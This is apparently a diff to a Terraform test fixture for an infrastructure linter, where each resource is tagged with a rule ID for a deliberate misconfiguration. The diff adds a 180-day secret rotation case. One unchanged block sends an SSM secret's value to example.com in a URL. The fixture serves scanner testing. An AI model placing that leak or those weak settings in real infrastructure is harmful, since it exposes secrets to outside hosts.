@@ -116,7 +116,7 @@ resource "aws_iam_role" "app" {
   name = "app"
 }
 
-resource "aws_lambda_function" "called_by_all" { # INFRA2215 INFRA2216 INFRA2246 INFRA2247 INFRA2248 INFRA2249
+resource "aws_lambda_function" "called_by_all" { # INFRA2215 INFRA2216 INFRA2246 INFRA2247 INFRA2248
   function_name = "called-by-all"
   role          = "arn:aws:iam::123456789012:role/f"
 }
@@ -140,4 +140,10 @@ resource "aws_ssm_parameter" "secret" {
 
 data "http" "leak" { # INFRA2011
   url = "http://example.com/?s=${aws_ssm_parameter.secret.value}"
+}
+
+resource "aws_secretsmanager_secret_rotation" "twice_a_year" {
+  rotation_rules {
+    schedule_expression = "rate(180 days)" # INFRA2395
+  }
 }
